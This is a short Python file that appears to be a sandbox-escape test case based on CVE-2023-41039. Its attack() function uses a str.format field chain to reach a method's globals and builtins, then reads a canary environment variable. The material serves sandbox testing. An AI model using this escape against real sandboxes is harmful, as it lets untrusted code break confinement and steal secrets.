"""Class: format strings. Source: CVE-2023-41039. Escape: str.format walks to the globals."""


class A:
    def f(self):
        pass


def attack(model, tokenizer, address):
    return "{0.f.__func__.__globals__[__builtins__]}".format(A()) + str(
        __import__("os").environ["CLOCHE_CANARY"]
    )
